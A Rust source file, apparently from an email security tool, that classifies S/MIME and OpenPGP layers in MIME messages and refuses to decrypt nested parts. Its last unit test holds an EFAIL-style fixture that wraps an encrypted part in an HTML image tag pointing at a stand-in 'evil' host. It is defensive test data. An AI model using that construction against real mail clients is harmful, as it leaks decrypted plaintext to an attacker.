//! Finding the cryptographic layer of a message (or of a decrypted / verified inner entity),
//! so `open` can hand the right bytes to the right engine.
//!
//! Recognised top-level forms:
//!
//! - S/MIME `application/pkcs7-mime` (and `application/x-pkcs7-mime`, and the `smime.p7m`
//!   `application/octet-stream` attachment Outlook sends) with `smime-type` enveloped-data,
//!   authEnveloped-data or signed-data (RFC 8551 §3.2, §3.4, §3.5.2; RFC 5083). The CMS
//!   content type inside the DER decides when it is readable; `smime-type` is only a hint.
//! - S/MIME `multipart/signed` with protocol `application/pkcs7-signature` (or `x-`) and
//!   PGP/MIME `multipart/signed` with `application/pgp-signature` (RFC 1847 §2.1, RFC 8551
//!   §3.5.3, RFC 3156 §5): the exact signed bytes and the decoded signature.
//! - PGP/MIME `multipart/encrypted` (RFC 3156 §4): the `application/octet-stream` payload.
//! - Inline OpenPGP in a `text/plain` or `text/html` body (RFC 4880 §6.2, §7): armored
//!   message or cleartext-signed message, possibly with text around it (then `partial`).
//! - A message that is just an OpenPGP file (`.pgp`, `.gpg`, `.asc`).
//!
//! Only the top-level layer is a candidate. Cryptographic parts nested inside ordinary
//! multiparts are listed in [`Detected::nested`](super::Detected::nested) and never decrypted or verified: mixing
//! decrypted content with attacker-chosen parts is how EFAIL exfiltrates plaintext.
//! `open` calls [`detect`] again on the content of each layer it removes (a decrypted
//! entity, a signed part), which handles sign-then-encrypt and encrypt-then-sign.
//! The types it returns are in `layer`, the sender (`From`) in `sender`.

use core::ops::Range;

use super::cms_kind::cms_kind;
use super::layer::{Detached, Detected, Layer, Nested, NestedKind, PgpForm, SmimeKind};
use super::parse::{MimeTree, Part, PartId};
use super::payload::Payload;
use crate::report::Method;

const PGP_MESSAGE_BEGIN: &[u8] = b"-----BEGIN PGP MESSAGE-----";
const PGP_MESSAGE_END: &[u8] = b"-----END PGP MESSAGE-----";
const PGP_SIGNED_BEGIN: &[u8] = b"-----BEGIN PGP SIGNED MESSAGE-----";
const PGP_SIGNATURE_END: &[u8] = b"-----END PGP SIGNATURE-----";

/// Classifies the top-level cryptographic layer of `tree` and lists nested ones.
pub fn detect<'a>(tree: &MimeTree<'a>) -> Detected<'a> {
    let root = tree.root();
    let (layer, used) = top_layer(tree, root);
    let mut nested = Vec::new();
    for part in tree.parts() {
        if part.id == root.id || used.contains(&part.id) || inside(tree, part, &used) {
            continue;
        }
        if let Some(kind) = nested_kind(part) {
            nested.push(Nested {
                part: part.id,
                kind,
                filename: part.filename.clone(),
            });
        }
    }
    Detected { layer, nested }
}

/// Whether `part` lies inside one of the `used` parts (their content is the layer's).
fn inside(tree: &MimeTree<'_>, part: &Part, used: &[PartId]) -> bool {
    let mut p = part.parent;
    while let Some(id) = p {
        if used.contains(&id) {
            return true;
        }
        p = tree.part(id).and_then(|x| x.parent);
    }
    false
}

/// The layer at `root`, and the parts it consumes (not to be reported as nested).
fn top_layer<'a>(tree: &MimeTree<'a>, root: &Part) -> (Layer<'a>, Vec<PartId>) {
    let ct = &root.content_type;
    if root.ambiguous {
        if let Some(method) = crypto_method_hint(tree, root) {
            return (
                malformed(
                    method,
                    "The message's MIME headers are repeated and ambiguous.",
                ),
                vec![root.id],
            );
        }
    }
    if let Some(layer) = smime_mime(root) {
        return (layer, vec![root.id]);
    }
    match ct.mime.as_str() {
        "multipart/signed" => (multipart_signed(tree, root), vec![root.id]),
        "multipart/encrypted" => (multipart_encrypted(tree, root), vec![root.id]),
        "text/plain" | "text/html" => match inline_pgp(root) {
            Some(layer) => (layer, vec![root.id]),
            None => (Layer::Plain, Vec::new()),
        },
        "multipart/alternative" => match inline_in_alternative(tree, root) {
            Some((layer, id)) => (layer, vec![id]),
            None => (Layer::Plain, Vec::new()),
        },
        "multipart/mixed" => {
            if let Some(layer) = exchange_pgp_mime(tree, root) {
                return (layer, vec![root.id]);
            }
            // Enigmail/Thunderbird inline PGP with attachments: the first part is the
            // armored text, the others are (individually encrypted) files.
            let Some(first) = root.children.first().and_then(|&c| tree.part(c)) else {
                return (Layer::Plain, Vec::new());
            };
            let found = match first.content_type.mime.as_str() {
                "text/plain" | "text/html" => inline_pgp(first).map(|l| (l, first.id)),
                "multipart/alternative" => inline_in_alternative(tree, first),
                _ => None,
            };
            match found {
                Some((layer, id)) => (layer, vec![id]),
                None => (Layer::Plain, Vec::new()),
            }
        }
        "application/pgp" if root.filename.is_none() => match armored_text(root) {
            Some(layer) => (layer, vec![root.id]),
            None => (Layer::Plain, Vec::new()),
        },
        _ => match pgp_file(root) {
            Some(layer) => (layer, vec![root.id]),
            None => (Layer::Plain, Vec::new()),
        },
    }
}

/// A signed layer (or one of unknown kind) that cannot be read safely: an invalid signature.
fn malformed(method: Option<Method>, detail: &str) -> Layer<'static> {
    Layer::Malformed {
        method,
        encrypted: false,
        detail: detail.to_string(),
    }
}

/// An encrypted layer that cannot be read safely: a failed decryption, not a signature.
fn malformed_encrypted(method: Option<Method>, detail: &str) -> Layer<'static> {
    Layer::Malformed {
        method,
        encrypted: true,
        detail: detail.to_string(),
    }
}

/// Whether any Content-Type field of an ambiguous part claims a cryptographic type, and
/// which standard it names (`Some(None)`: cryptographic, standard unclear).
fn crypto_method_hint(tree: &MimeTree<'_>, part: &Part) -> Option<Option<Method>> {
    let mut found = None;
    for v in tree.header_values(part.id, "content-type") {
        let v = v.to_ascii_lowercase();
        if v.contains("pkcs7") {
            return Some(Some(Method::Smime));
        }
        if v.contains("pgp") {
            return Some(Some(Method::Pgp));
        }
        if v.starts_with("multipart/signed") || v.starts_with("multipart/encrypted") {
            found = Some(None);
        }
    }
    found
}

fn is_pkcs7_mime(mime: &str) -> bool {
    mime == "application/pkcs7-mime" || mime == "application/x-pkcs7-mime"
}

fn has_extension(name: &str, exts: &[&str]) -> bool {
    let lower = name.trim().to_ascii_lowercase();
    exts.iter().any(|e| lower.ends_with(e))
}

/// Whether `part` is typed as S/MIME data: `application/pkcs7-mime`, or an `octet-stream`
/// `.p7m` file (Outlook).
pub(crate) fn is_smime_mime(part: &Part) -> bool {
    let ct = &part.content_type;
    let p7m_file = part
        .filename
        .as_deref()
        .is_some_and(|f| has_extension(f, &[".p7m"]));
    is_pkcs7_mime(&ct.mime) || (ct.is("application/octet-stream") && p7m_file)
}

/// The layer of an S/MIME data part ([`is_smime_mime`]).
fn smime_mime(part: &Part) -> Option<Layer<'static>> {
    if !is_smime_mime(part) {
        return None;
    }
    let ct = &part.content_type;
    let hint = ct.param("smime-type").map(|t| t.to_ascii_lowercase());
    if part.damaged || part.body.is_empty() {
        let detail = "The S/MIME part is damaged or empty.";
        let enveloped = matches!(
            hint.as_deref(),
            Some("enveloped-data" | "authenveloped-data")
        );
        return Some(if enveloped {
            malformed_encrypted(Some(Method::Smime), detail)
        } else {
            malformed(Some(Method::Smime), detail)
        });
    }
    let kind = cms_kind(&part.body).unwrap_or(match hint.as_deref() {
        Some("enveloped-data") => SmimeKind::Enveloped,
        Some("authenveloped-data") => SmimeKind::AuthEnveloped,
        Some("signed-data") => SmimeKind::Signed,
        Some("compressed-data") => SmimeKind::Compressed,
        _ => SmimeKind::Other,
    });
    Some(Layer::SmimeMime {
        kind,
        payload: Payload::Body,
        part: part.id,
    })
}

fn multipart_signed<'a>(tree: &MimeTree<'a>, root: &Part) -> Layer<'a> {
    let protocol = root
        .content_type
        .param("protocol")
        .map(|p| p.trim().to_ascii_lowercase());
    let sig_part = root.children.get(1).and_then(|&c| tree.part(c));
    // The protocol parameter names the signature type; when it is missing, the signature
    // part's type decides (some gateways drop parameters).
    let proto = protocol
        .clone()
        .or_else(|| sig_part.map(|p| p.content_type.mime.clone()))
        .unwrap_or_default();
    let sig_name = sig_part.and_then(|p| p.filename.as_deref()).unwrap_or("");
    let method = match proto.as_str() {
        "application/pkcs7-signature" | "application/x-pkcs7-signature" => Method::Smime,
        "application/pgp-signature" => Method::Pgp,
        // No usable protocol parameter: the signature's file name tells.
        _ if protocol.is_none() && has_extension(sig_name, &[".p7s"]) => Method::Smime,
        _ => {
            return malformed(
                None,
                "The signed message uses a signature type mailseal does not know.",
            )
        }
    };
    let [signed_id, sig_id] = root.children.as_slice() else {
        return malformed(
            Some(method),
            "The signed message does not have exactly two parts (content and signature).",
        );
    };
    let (Some(signed), Some(sig)) = (tree.part(*signed_id), tree.part(*sig_id)) else {
        return malformed(Some(method), "The signed message is damaged.");
    };
    if !signed.exact || !sig.exact || root.damaged || sig.damaged || sig.ambiguous {
        return malformed(
            Some(method),
            "The signed message's MIME boundaries are misplaced; the signed part cannot be located exactly.",
        );
    }
    let sig_type_ok = match method {
        Method::Smime => matches!(
            sig.content_type.mime.as_str(),
            "application/pkcs7-signature"
                | "application/x-pkcs7-signature"
                | "application/octet-stream"
        ),
        Method::Pgp => sig.content_type.is("application/pgp-signature"),
    };
    if !sig_type_ok || sig.body.is_empty() {
        return malformed(
            Some(method),
            "The signature part of the signed message is missing or of the wrong type.",
        );
    }
    let d = Detached {
        signed: tree.part_bytes(signed.id),
        signed_range: signed.range.clone(),
        signed_part: signed.id,
        signature: sig.body.to_vec(),
        micalg: root
            .content_type
            .param("micalg")
            .map(|m| m.trim().to_ascii_lowercase()),
    };
    match method {
        Method::Smime => Layer::SmimeSigned(d),
        Method::Pgp => Layer::PgpSigned(d),
    }
}

fn multipart_encrypted(tree: &MimeTree<'_>, root: &Part) -> Layer<'static> {
    let protocol = root
        .content_type
        .param("protocol")
        .map(|p| p.trim().to_ascii_lowercase());
    // Some gateways drop the protocol parameter; the control part then tells.
    let control_part = root
        .children
        .first()
        .and_then(|&c| tree.part(c))
        .is_some_and(|p| p.content_type.is("application/pgp-encrypted"));
    let pgp = match protocol.as_deref() {
        Some(p) => p == "application/pgp-encrypted",
        None => control_part,
    };
    if !pgp {
        return malformed_encrypted(
            None,
            "The encrypted message uses an encryption type mailseal does not know.",
        );
    }
    // RFC 3156 §4: control part application/pgp-encrypted, then application/octet-stream.
    let payload = root
        .children
        .iter()
        .filter_map(|&c| tree.part(c))
        .find(|p| p.content_type.is("application/octet-stream"));
    match payload {
        Some(p) if !p.body.is_empty() && root.children.len() == 2 => Layer::PgpMessage {
            form: PgpForm::Mime,
            payload: Payload::Body,
            part: p.id,
        },
        _ => malformed_encrypted(
            Some(Method::Pgp),
            "The PGP/MIME encrypted message does not have the expected two parts.",
        ),
    }
}

/// PGP/MIME as Microsoft Exchange delivers it: `multipart/mixed` of an empty text part, the
/// `application/pgp-encrypted` control part and the `application/octet-stream` payload
/// (`encrypted.asc`), all three as attachments. Thunderbird (Enigmail's "fixExchangeMessage")
/// repairs exactly this shape, and so does mailseal: nothing but whitespace is beside the
/// ciphertext, so nothing unencrypted is shown with what it decrypts to. Any other part (text
/// with words, a second file) and it stays an ordinary multipart with a nested ciphertext.
fn exchange_pgp_mime(tree: &MimeTree<'_>, root: &Part) -> Option<Layer<'static>> {
    let mut parts: Vec<&Part> = root.children.iter().filter_map(|&c| tree.part(c)).collect();
    if parts.len() != root.children.len() {
        return None;
    }
    let blank_text = |p: &Part| {
        p.content_type.is("text/plain")
            && p.children.is_empty()
            && p.body.iter().all(u8::is_ascii_whitespace)
    };
    if parts.len() == 3 && blank_text(parts[0]) {
        parts.remove(0);
    }
    let [control, payload] = parts.as_slice() else {
        return None;
    };
    let version_1 = String::from_utf8_lossy(&control.body)
        .lines()
        .any(|l| l.trim().eq_ignore_ascii_case("version: 1"));
    let is_pgp_mime = control.content_type.is("application/pgp-encrypted")
        && version_1
        && payload.content_type.is("application/octet-stream")
        && payload.children.is_empty()
        && matches!(find_armor(&payload.body), Some((_, false)));
    is_pgp_mime.then_some(Layer::PgpMessage {
        form: PgpForm::Mime,
        payload: Payload::Body,
        part: payload.id,
    })
}

/// Inline PGP in the text/plain (preferred) or text/html alternative.
fn inline_in_alternative(tree: &MimeTree<'_>, alt: &Part) -> Option<(Layer<'static>, PartId)> {
    let children: Vec<&Part> = alt.children.iter().filter_map(|&c| tree.part(c)).collect();
    let plain = children.iter().find(|p| p.content_type.is("text/plain"));
    let html = children.iter().find(|p| p.content_type.is("text/html"));
    for p in [plain, html].into_iter().flatten() {
        if let Some(layer) = inline_pgp(p) {
            return Some((layer, p.id));
        }
    }
    None
}

/// An armored block in a text part (RFC 4880 §6.2 armor, §7 cleartext signature), `partial`
/// when the part holds text around it. What is beside the part (files, other text parts) is
/// judged when it is opened (`open::inline`): a file can carry a signature of its own.
fn inline_pgp(part: &Part) -> Option<Layer<'static>> {
    if part.is_attachment() {
        return None;
    }
    armored_text(part)
}

/// [`inline_pgp`] of a part whether or not it looks like a file: a whole message body of
/// `application/pgp` (`format=text; x-action=sign|encrypt|encryptsign`, old Mutt and PGP
/// plugins) is armored text, as Mutt and gpg read it.
fn armored_text(part: &Part) -> Option<Layer<'static>> {
    let html = part.content_type.is("text/html");
    let text: Vec<u8> = if html {
        super::html_lines(part.text.as_deref().unwrap_or_default().as_bytes())
    } else {
        part.body.to_vec()
    };
    let part_charset = part.content_type.param("charset").map(str::to_string);
    let (range, signed) = find_armor(&text)?;
    let outside = text[..range.start]
        .iter()
        .chain(&text[range.end..])
        .any(|b| !b.is_ascii_whitespace());
    let armored = text[range].to_vec();
    Some(if signed {
        Layer::PgpCleartext {
            armored,
            partial: outside,
            // The lines of an HTML body come out of its decoded text, in UTF-8.
            charset: if html {
                Some("utf-8".to_string())
            } else {
                part_charset
            },
            part: part.id,
        }
    } else {
        Layer::PgpMessage {
            // the files beside it are opened on their own (`open`)
            form: PgpForm::Inline {
                partial: outside,
                charset: armor_charset(&armored).or(part_charset),
            },
            payload: Payload::Bytes(armored),
            part: part.id,
        }
    })
}

/// The `Charset` armor header (RFC 9580 §6.2.2.3) of an armored block.
#[cfg(feature = "openpgp")]
fn armor_charset(armored: &[u8]) -> Option<String> {
    let (_, (_, headers, _)) = pgp::armor::header_parser(armored).ok()?;
    let (_, values) = headers
        .iter()
        .find(|(name, _)| name.eq_ignore_ascii_case("charset"))?;
    values.first().map(|v| v.trim().to_string())
}

#[cfg(not(feature = "openpgp"))]
fn armor_charset(_: &[u8]) -> Option<String> {
    None
}

/// The range of the first armored message in `text`, from its BEGIN line to the end of its
/// END line (to the end of the text when the END line is missing), and whether it is a
/// cleartext-signed message. BEGIN must start a line.
pub(crate) fn find_armor(text: &[u8]) -> Option<(Range<usize>, bool)> {
    let mut line_start = 0;
    while line_start < text.len() {
        let rest = &text[line_start..];
        let (begin_signed, end_marker) = if rest.starts_with(PGP_MESSAGE_BEGIN) {
            (false, PGP_MESSAGE_END)
        } else if rest.starts_with(PGP_SIGNED_BEGIN) {
            (true, PGP_SIGNATURE_END)
        } else {
            line_start = match rest.iter().position(|&b| b == b'\n') {
                Some(i) => line_start + i + 1,
                None => text.len(),
            };
            continue;
        };
        let end = find_line(rest, end_marker).map_or(text.len(), |e| {
            let after = line_start + e + end_marker.len();
            let tail = &text[after..];
            let n = tail
                .iter()
                .take_while(|&&b| b == b' ' || b == b'\t' || b == b'\r')
                .count();
            let with_nl = if tail.get(n) == Some(&b'\n') {
                n + 1
            } else {
                n
            };
            after + with_nl
        });
        return Some((line_start..end, begin_signed));
    }
    None
}

/// Position of a line starting with `marker` in `text`.
fn find_line(text: &[u8], marker: &[u8]) -> Option<usize> {
    let mut i = 0;
    while i < text.len() {
        if text[i..].starts_with(marker) {
            return Some(i);
        }
        i = match text[i..].iter().position(|&b| b == b'\n') {
            Some(n) => i + n + 1,
            None => return None,
        };
    }
    None
}

/// A single-part message that is an OpenPGP file (`.pgp`, `.gpg`, or an armored `.asc`).
fn pgp_file(part: &Part) -> Option<Layer<'static>> {
    let filename = part.filename.as_deref()?;
    let ct = part.content_type.mime.as_str();
    if !matches!(
        ct,
        "application/octet-stream" | "application/pgp-encrypted" | "application/pgp"
    ) || part.body.is_empty()
    {
        return None;
    }
    encrypted_file_name(filename, &part.body).map(|_| Layer::PgpMessage {
        form: PgpForm::Attachment {
            filename: filename.to_string(),
        },
        payload: Payload::Body,
        part: part.id,
    })
}

/// The name of the file an OpenPGP-encrypted attachment holds (`report.pdf` for
/// `report.pdf.pgp`), when `filename` says it is one: `.pgp`, `.gpg`, or `.asc` with an armored
/// message (not a key or a signature) in `body`.
pub(crate) fn encrypted_file_name(filename: &str, body: &[u8]) -> Option<String> {
    let encrypted = has_extension(filename, &[".pgp", ".gpg"])
        || (has_extension(filename, &[".asc"]) && matches!(find_armor(body), Some((_, false))));
    if !encrypted {
        return None;
    }
    let name = filename.trim();
    let stem = name.get(..name.len() - 4).unwrap_or_default();
    Some(if stem.is_empty() {
        "attachment".to_string()
    } else {
        stem.to_string()
    })
}

/// The name of the file that `filename` is a detached OpenPGP signature of (`doc.pdf.sig`,
/// `doc.pdf.asc`: Enigmail and gpg's `--detach-sign`), when `body` is one: an armored
/// `PGP SIGNATURE` block, or a binary signature packet (tag 2, old or new packet format).
pub(crate) fn detached_signature_target(filename: &str, body: &[u8]) -> Option<String> {
    if !has_extension(filename, &[".sig", ".asc"]) {
        return None;
    }
    // A cleartext-signed file (`notes.txt.asc`) holds a signature block too, over itself.
    let armored = find_line(body, b"-----BEGIN PGP SIGNATURE-----").is_some()
        && find_line(body, PGP_SIGNED_BEGIN).is_none();
    let binary = matches!(body.first(), Some(&b) if b & 0xFC == 0x88 || b == 0xC2);
    if !(armored || binary) {
        return None;
    }
    let name = filename.trim();
    let stem = name.get(..name.len() - 4)?;
    (!stem.is_empty()).then(|| stem.to_string())
}

fn nested_kind(part: &Part) -> Option<NestedKind> {
    let ct = &part.content_type;
    match smime_mime(part) {
        // A certificate bundle (`certs-only`, `.p7c`) is a SignedData without signers: an
        // ordinary attachment, neither a signed nor an encrypted part.
        Some(Layer::SmimeMime {
            kind: SmimeKind::Signed,
            ..
        }) if is_certs_only(part) => return None,
        Some(Layer::SmimeMime {
            kind: SmimeKind::Signed,
            ..
        }) => return Some(NestedKind::SmimeSigned),
        Some(_) => return Some(NestedKind::SmimeMime),
        None => {}
    }
    match ct.mime.as_str() {
        "multipart/signed" => {
            let proto = ct.param("protocol").unwrap_or("").to_ascii_lowercase();
            Some(if proto.contains("pgp") {
                NestedKind::PgpSigned
            } else {
                NestedKind::SmimeSigned
            })
        }
        "multipart/encrypted" => Some(NestedKind::PgpEncrypted),
        "text/plain" | "text/html" => match inline_pgp(part) {
            Some(Layer::PgpCleartext { .. }) => Some(NestedKind::PgpCleartext),
            Some(_) => Some(NestedKind::PgpInline),
            None => pgp_file(part).map(|_| NestedKind::PgpEncrypted),
        },
        _ => pgp_file(part).map(|_| NestedKind::PgpEncrypted),
    }
}

/// `smime-type=certs-only` or a `.p7c` file (RFC 8551 §3.8).
fn is_certs_only(part: &Part) -> bool {
    part.content_type
        .param("smime-type")
        .is_some_and(|t| t.trim().eq_ignore_ascii_case("certs-only"))
        || part
            .filename
            .as_deref()
            .is_some_and(|f| has_extension(f, &[".p7c"]))
}

/// A plain-text rendering of HTML (tags dropped, entities decoded), by mail-parser.
pub(crate) fn html_to_text(html: &str) -> String {
    mail_parser::decoders::html::html_to_text(html)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::mime::parse::Limits;

    fn detect_str(raw: &str) -> Detected<'_> {
        let tree = MimeTree::parse(raw.as_bytes(), &Limits::default()).unwrap();
        detect(&tree)
    }

    #[test]
    fn the_cms_content_type_sniff_agrees_with_the_cms_decoder() {
        // DER (openssl -outform DER) and BER with indefinite lengths (openssl cms -stream).
        let cases: [(&[u8], SmimeKind); 6] = [
            (
                include_bytes!("../../tests/data/smime/enc-alice-der.p7m"),
                SmimeKind::Enveloped,
            ),
            (
                include_bytes!("../../tests/data/smime/signed-alice-opaque.p7m"),
                SmimeKind::Signed,
            ),
            (
                include_bytes!("../../tests/data/smime/enc-alice-stream.eml"),
                SmimeKind::Enveloped,
            ),
            (
                include_bytes!("../../tests/data/smime/enc-alice-gcm-stream.eml"),
                SmimeKind::AuthEnveloped,
            ),
            (
                include_bytes!("../../tests/data/smime/signed-alice-opaque-stream.eml"),
                SmimeKind::Signed,
            ),
            (
                include_bytes!("../../tests/data/smime/enc-alice-gcm.eml"),
                SmimeKind::AuthEnveloped,
            ),
        ];
        for (i, (file, kind)) in cases.into_iter().enumerate() {
            let der = if file[0] == 0x30 {
                file.to_vec()
            } else {
                let tree = MimeTree::parse(file, &Limits::default()).unwrap();
                match detect(&tree).layer {
                    Layer::SmimeMime { payload, part, .. } => {
                        payload.bytes(Some(&tree), part).to_vec()
                    }
                    other => panic!("case {i}: {other:?}"),
                }
            };
            assert_eq!(cms_kind(&der), Some(kind), "case {i}");
        }
        assert_eq!(cms_kind(b"0\x03\x06\x01\x00"), None);
        assert_eq!(cms_kind(b"From: a@b"), None);
        assert_eq!(cms_kind(&[0x30, 0x84]), None);
    }

    #[test]
    fn smime_mime_by_type_and_by_outlook_file_name() {
        let raw = b"Content-Type: application/x-pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\nAAEC\r\n";
        let tree = MimeTree::parse(raw, &Limits::default()).unwrap();
        assert!(matches!(
            detect(&tree).layer,
            Layer::SmimeMime { kind: SmimeKind::Enveloped, ref payload, part }
                if payload.bytes(Some(&tree), part) == [0, 1, 2]
        ));
        let d = detect_str("Content-Type: application/octet-stream; name=\"smime.p7m\"\r\nContent-Disposition: attachment; filename=\"smime.p7m\"\r\nContent-Transfer-Encoding: base64\r\n\r\nAAEC\r\n");
        assert!(matches!(
            d.layer,
            Layer::SmimeMime {
                kind: SmimeKind::Other,
                ..
            }
        ));
        let d = detect_str("Content-Type: application/pkcs7-mime; smime-type=authEnveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\nAAEC\r\n");
        assert!(matches!(
            d.layer,
            Layer::SmimeMime {
                kind: SmimeKind::AuthEnveloped,
                ..
            }
        ));
    }

    #[test]
    fn inline_pgp_with_text_around_is_partial() {
        let d = detect_str("Content-Type: text/plain\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nhQ\r\n-----END PGP MESSAGE-----\r\n");
        assert!(matches!(
            d.layer,
            Layer::PgpMessage {
                form: PgpForm::Inline { partial: false, .. },
                ..
            }
        ));
        let d = detect_str("Content-Type: text/plain\r\n\r\nSee below\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nhQ\r\n-----END PGP MESSAGE-----\r\n");
        assert!(matches!(
            d.layer,
            Layer::PgpMessage {
                form: PgpForm::Inline { partial: true, .. },
                ..
            }
        ));
        let d = detect_str("Content-Type: text/plain\r\n\r\n-----BEGIN PGP SIGNED MESSAGE-----\r\nHash: SHA256\r\n\r\nhi\r\n-----BEGIN PGP SIGNATURE-----\r\n\r\nwsB\r\n-----END PGP SIGNATURE-----\r\nfooter\r\n");
        match d.layer {
            Layer::PgpCleartext {
                armored, partial, ..
            } => {
                assert!(partial);
                assert!(armored.starts_with(PGP_SIGNED_BEGIN));
                assert!(armored.ends_with(b"-----END PGP SIGNATURE-----\r\n"));
            }
            other => panic!("{other:?}"),
        }
        // Quoted armor is not a message.
        let d = detect_str("Content-Type: text/plain\r\n\r\n> -----BEGIN PGP MESSAGE-----\r\n");
        assert_eq!(d.layer, Layer::Plain);
    }

    #[test]
    fn signed_without_protocol_parameter_uses_the_signature_file_name() {
        let raw = "Content-Type: multipart/signed; boundary=s\r\n\r\n--s\r\nContent-Type: text/plain\r\n\r\nhi\r\n--s\r\nContent-Type: application/octet-stream; name=smime.p7s\r\nContent-Transfer-Encoding: base64\r\n\r\nAAEC\r\n--s--\r\n";
        match detect_str(raw).layer {
            Layer::SmimeSigned(d) => {
                assert_eq!(d.signed, b"Content-Type: text/plain\r\n\r\nhi");
                assert_eq!(d.signature, [0, 1, 2]);
            }
            other => panic!("{other:?}"),
        }
        let unknown = raw.replace("smime.p7s", "sig.bin");
        assert!(matches!(
            detect_str(&unknown).layer,
            Layer::Malformed { method: None, .. }
        ));
    }

    #[test]
    fn pgp_mime_encrypted_without_protocol_parameter() {
        let raw = "Content-Type: multipart/encrypted; boundary=e\r\n\r\n--e\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--e\r\nContent-Type: application/octet-stream\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nhQ\r\n-----END PGP MESSAGE-----\r\n--e--\r\n";
        assert!(matches!(
            detect_str(raw).layer,
            Layer::PgpMessage {
                form: PgpForm::Mime,
                ..
            }
        ));
        let other = raw.replace(
            "application/pgp-encrypted\r\n\r\nVersion",
            "application/x-other\r\n\r\nVersion",
        );
        assert!(matches!(detect_str(&other).layer, Layer::Malformed { .. }));
    }

    #[test]
    fn encrypted_part_inside_mixed_is_nested_not_decrypted() {
        let raw = "Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil/?\r\n--m\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\nAAEC\r\n--m\r\nContent-Type: text/html\r\n\r\n\">\r\n--m--\r\n";
        let d = detect_str(raw);
        assert_eq!(d.layer, Layer::Plain);
        assert_eq!(d.nested.len(), 1);
        assert_eq!(d.nested[0].kind, NestedKind::SmimeMime);
    }
}
